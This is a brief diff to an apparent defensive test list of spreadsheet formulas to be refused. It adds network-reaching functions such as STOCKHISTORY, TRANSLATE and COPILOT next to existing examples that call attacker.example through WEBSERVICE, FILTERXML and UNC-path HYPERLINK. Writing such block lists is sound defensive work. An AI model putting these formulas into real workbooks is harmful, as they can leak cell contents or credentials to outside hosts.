@@ -66,6 +66,9 @@ def refusal(content):
         '=FILTERXML(_xlfn.WEBSERVICE("http://attacker.example/a.xml"),"//a")',
         '=webservice("http://attacker.example/")',
         '=_xlfn.IMAGE("https://tracker.example/pixel.png")',
+        '=_xlfn.STOCKHISTORY("MSFT",DATE(2026,1,1))',
+        '=_xlfn.TRANSLATE(A2,"vi","en")',
+        '=_xlfn.COPILOT("Tóm tắt",A2:A9)',
         '=HYPERLINK("file://attacker.example/share/x.xlsx","Xem")',
         '=HYPERLINK("\\\\attacker.example\\share\\x.xlsx","Xem")',
         '=HYPERLINK(A2,"Xem")',  # a target computed from a cell: anything at all
